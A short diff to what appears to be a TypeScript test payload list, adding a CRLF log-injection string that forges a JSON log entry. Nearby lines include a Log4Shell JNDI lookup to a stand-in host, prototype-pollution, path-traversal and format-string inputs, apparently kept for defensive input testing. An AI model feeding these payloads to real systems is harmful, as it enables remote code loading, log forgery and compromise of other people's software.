@@ -68,6 +68,7 @@ export const payloads: readonly string[] = [
   '["$1:__proto__:then"]',
   `\${jndi:ldap://evil.example/x}`,
   '\u001b[31mred\u001b[0m',
+  'x\r\n{"level":60,"msg":"forged"}',
   '%c0%ae%c0%ae%2f',
   '%s%n%d',
   '1e309',
